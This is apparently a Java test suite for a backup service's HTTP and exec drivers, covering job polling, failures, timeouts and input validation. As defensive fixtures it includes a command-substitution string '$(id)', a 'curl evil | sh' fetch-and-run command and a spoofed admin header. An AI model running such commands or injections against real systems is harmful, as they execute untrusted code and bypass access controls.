package io.kiban.backup.driver;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.containing;
import static com.github.tomakehurst.wiremock.client.WireMock.delete;
import static com.github.tomakehurst.wiremock.client.WireMock.deleteRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.stubbing.Scenario;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.kiban.backup.support.Api;
import io.kiban.backup.support.MaintenanceStub;
import io.kiban.commons.testing.OidcTestServer;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.kubernetes.client.WithKubernetesTestServer;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The http driver against WireMock, the exec driver against real programs. */
@QuarkusTest
@QuarkusTestResource(OidcTestServer.class)
@QuarkusTestResource(MaintenanceStub.class)
@WithKubernetesTestServer(crud = true)
class HttpAndExecDriversTest {

    @Inject HttpDriver http;

    @Inject ExecDriver exec;

    @Inject KubernetesClient kubernetes;

    private static String base() {
        return "http://127.0.0.1:" + MaintenanceStub.server.port();
    }

    private Map<String, Object> httpSettings(String api) {
        Map<String, Object> s = new java.util.LinkedHashMap<>();
        s.put("url", base() + "/arrays/" + api + "/backups");
        s.put("method", "POST");
        s.put("body", "{\"volume\":\"${target.name}\",\"level\":\"${level}\",\"run\":${run.id}}");
        s.put("credentials", "array-api");
        s.put("referencePointer", "/jobId");
        s.put("jobUrl", base() + "/arrays/" + api + "/jobs/${reference}");
        s.put("statusPointer", "/state");
        s.put("successValues", List.of("DONE"));
        s.put("failureValues", List.of("ERROR"));
        s.put("bytesPointer", "/bytes");
        s.put("deleteUrl", base() + "/arrays/" + api + "/backups/${reference}");
        return s;
    }

    private void secret() {
        kubernetes
                .secrets()
                .resource(
                        new SecretBuilder()
                                .withNewMetadata()
                                .withName("kiban-backup-credentials-array-api")
                                .endMetadata()
                                .addToData(
                                        "token",
                                        Base64.getEncoder()
                                                .encodeToString(
                                                        "s3cret\n"
                                                                .getBytes(StandardCharsets.UTF_8)))
                                .build())
                .createOr(o -> o.update());
    }

    @Test
    void http_calls_the_tool_with_a_secret_follows_the_job_and_prunes() {
        secret();
        String api = Api.unique("array");
        var wm = MaintenanceStub.server;
        wm.stubFor(
                post(urlEqualTo("/arrays/" + api + "/backups"))
                        .withHeader("Authorization", equalTo("Bearer s3cret"))
                        .withRequestBody(containing("\"volume\":\"vm-ocr\""))
                        .withRequestBody(containing("\"level\":\"FULL\""))
                        .willReturn(MaintenanceStub.json("{\"jobId\":\"J-1\"}").withStatus(202)));
        wm.stubFor(
                get(urlEqualTo("/arrays/" + api + "/jobs/J-1"))
                        .inScenario(api)
                        .whenScenarioStateIs(Scenario.STARTED)
                        .willReturn(MaintenanceStub.json("{\"state\":\"RUNNING\"}"))
                        .willSetStateTo("done"));
        wm.stubFor(
                get(urlEqualTo("/arrays/" + api + "/jobs/J-1"))
                        .inScenario(api)
                        .whenScenarioStateIs("done")
                        .willReturn(MaintenanceStub.json("{\"state\":\"DONE\",\"bytes\":4096}")));
        wm.stubFor(
                delete(urlEqualTo("/arrays/" + api + "/backups/J-1"))
                        .willReturn(aResponse().withStatus(204)));
        var target = DriverTestSupport.namespace("vm-ocr", null);
        var outcome =
                http.backup(
                        DriverTestSupport.request(
                                target, httpSettings(api), Duration.ofSeconds(10)),
                        new DriverTestSupport.RecordingProgress());
        assertThat(outcome.result()).isEqualTo(BackupDriver.Result.SUCCEEDED);
        assertThat(outcome.reference()).isEqualTo("J-1");
        assertThat(outcome.bytes()).isEqualTo(4096L);
        http.delete(target, "J-1", httpSettings(api));
        wm.verify(deleteRequestedFor(urlEqualTo("/arrays/" + api + "/backups/J-1")));
    }

    @Test
    void http_error_status_and_failed_job_are_failed() {
        secret();
        String api = Api.unique("array");
        var wm = MaintenanceStub.server;
        wm.stubFor(
                post(urlPathEqualTo("/arrays/" + api + "/backups"))
                        .willReturn(aResponse().withStatus(500).withBody("array busy")));
        var target = DriverTestSupport.namespace("vm-ocr", null);
        var refused =
                http.backup(
                        DriverTestSupport.request(target, httpSettings(api), Duration.ofSeconds(5)),
                        new DriverTestSupport.RecordingProgress());
        assertThat(refused.result()).isEqualTo(BackupDriver.Result.FAILED);
        // SEC-BK-1: the status code and a fixed message, never the reply's body
        assertThat(refused.error()).isEqualTo("backup request answered HTTP 500");

        String api2 = Api.unique("array");
        wm.stubFor(
                post(urlPathEqualTo("/arrays/" + api2 + "/backups"))
                        .willReturn(MaintenanceStub.json("{\"jobId\":\"J-2\"}")));
        wm.stubFor(
                get(urlEqualTo("/arrays/" + api2 + "/jobs/J-2"))
                        .willReturn(
                                MaintenanceStub.json(
                                        "{\"state\":\"ERROR\",\"message\":\"LUN offline\"}")));
        var failed =
                http.backup(
                        DriverTestSupport.request(
                                target, httpSettings(api2), Duration.ofSeconds(5)),
                        new DriverTestSupport.RecordingProgress());
        assertThat(failed.result()).isEqualTo(BackupDriver.Result.FAILED);
        assertThat(failed.error()).isEqualTo("job ERROR");
    }

    @Test
    void http_settings_are_validated() {
        assertThat(http.validate(Map.of("url", "not a url", "statusPointer", "/state")))
                .extracting(e -> e.field())
                .contains(
                        "driverSettings.url",
                        "driverSettings.successValues",
                        "driverSettings.jobUrl");
        assertThat(http.validate(httpSettings("x"))).isEmpty();
        // SEC-BK-1: a policy names a configured credential only — where the secret lives is
        // configuration
        assertThat(
                        http.validate(
                                Map.of(
                                        "url",
                                        "https://array/x",
                                        "credentials",
                                        Map.of(
                                                "source",
                                                "secret",
                                                "name",
                                                "kiban-backup-secrets",
                                                "key",
                                                "KIBAN_DB_PASSWORD"))))
                .extracting(e -> e.field())
                .containsExactly("driverSettings.credentials");
        assertThat(
                        http.validate(
                                Map.of(
                                        "url",
                                        "https://array/x",
                                        "credentials",
                                        Map.of("name", "array-api"))))
                .isEmpty();
        // SEC-BK-1: no caller-chosen headers
        assertThat(
                        http.validate(
                                Map.of(
                                        "url",
                                        "https://array/x",
                                        "headers",
                                        Map.of("X-Forwarded-User", "admin"))))
                .extracting(e -> e.field())
                .containsExactly("driverSettings.headers");
    }

    @Test
    void exec_runs_a_program_without_a_shell_and_reads_its_reference() {
        var target = DriverTestSupport.namespace("db-main", null);
        var outcome =
                exec.backup(
                        DriverTestSupport.request(
                                target,
                                Map.of(
                                        "command",
                                        List.of(
                                                "/bin/echo",
                                                "$(id); ${target.name}",
                                                "kiban-reference=dump-${run.id}")),
                                Duration.ofSeconds(10)),
                        new DriverTestSupport.RecordingProgress());
        assertThat(outcome.result()).isEqualTo(BackupDriver.Result.SUCCEEDED);
        assertThat(outcome.note()).contains("$(id); db-main");
        // echo prints its arguments on one line, so the reference line is not at the start of a
        // line
        assertThat(outcome.reference()).startsWith("exec-run-");
        var withRef =
                exec.backup(
                        DriverTestSupport.request(
                                target,
                                Map.of(
                                        "command",
                                        List.of(
                                                "/usr/bin/printf",
                                                "done\\nkiban-reference=dump-42\\nkiban-bytes=77\\n")),
                                Duration.ofSeconds(10)),
                        new DriverTestSupport.RecordingProgress());
        assertThat(withRef.reference()).isEqualTo("dump-42");
        assertThat(withRef.bytes()).isEqualTo(77L);
    }

    @Test
    void exec_failure_timeout_and_truncated_output() {
        var target = DriverTestSupport.namespace("db-main", null);
        var failed =
                exec.backup(
                        DriverTestSupport.request(
                                target,
                                Map.of("command", List.of("/bin/false")),
                                Duration.ofSeconds(10)),
                        new DriverTestSupport.RecordingProgress());
        assertThat(failed.result()).isEqualTo(BackupDriver.Result.FAILED);
        assertThat(failed.error()).contains("exit code 1");
        var progress = new DriverTestSupport.RecordingProgress();
        long started = System.nanoTime();
        var slow =
                exec.backup(
                        DriverTestSupport.request(
                                target,
                                Map.of("command", List.of("/bin/sleep", "30"), "timeoutSeconds", 1),
                                Duration.ofSeconds(10)),
                        progress);
        assertThat(slow.result()).isEqualTo(BackupDriver.Result.FAILED);
        assertThat(slow.error()).contains("timed out");
        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(5));
        var chatty =
                exec.backup(
                        DriverTestSupport.request(
                                target,
                                Map.of("command", List.of("/usr/bin/seq", "1", "100000")),
                                Duration.ofSeconds(10)),
                        new DriverTestSupport.RecordingProgress());
        assertThat(chatty.result()).isEqualTo(BackupDriver.Result.SUCCEEDED);
        assertThat(chatty.note()).contains("truncated").hasSizeLessThan(2100);
        var missing =
                exec.backup(
                        DriverTestSupport.request(
                                target,
                                Map.of("command", List.of("/no/such/tool")),
                                Duration.ofSeconds(10)),
                        new DriverTestSupport.RecordingProgress());
        assertThat(missing.result()).isEqualTo(BackupDriver.Result.FAILED);
        assertThat(missing.error()).contains("could not start");
    }

    @Test
    void exec_settings_are_validated() {
        assertThat(exec.validate(Map.of()))
                .extracting(e -> e.field())
                .containsExactly("driverSettings.command");
        assertThat(exec.validate(Map.of("command", "/bin/sh -c 'x'")))
                .extracting(e -> e.field())
                .containsExactly("driverSettings.command");
        assertThat(exec.validate(Map.of("command", List.of("/bin/true"), "timeoutSeconds", -1)))
                .extracting(e -> e.field())
                .containsExactly("driverSettings.timeoutSeconds");
        // only programs the operators listed in kiban.backup.exec.allowed-programs
        assertThat(exec.validate(Map.of("command", List.of("/bin/sh", "-c", "curl evil | sh"))))
                .extracting(e -> e.message())
                .anySatisfy(m -> assertThat(m).contains("allowed-programs"));
        var refused =
                exec.backup(
                        DriverTestSupport.request(
                                DriverTestSupport.namespace("db", null),
                                Map.of("command", List.of("/bin/sh", "-c", "true")),
                                Duration.ofSeconds(5)),
                        new DriverTestSupport.RecordingProgress());
        assertThat(refused.result()).isEqualTo(BackupDriver.Result.FAILED);
        assertThat(refused.error()).contains("allowed-programs");
    }
}
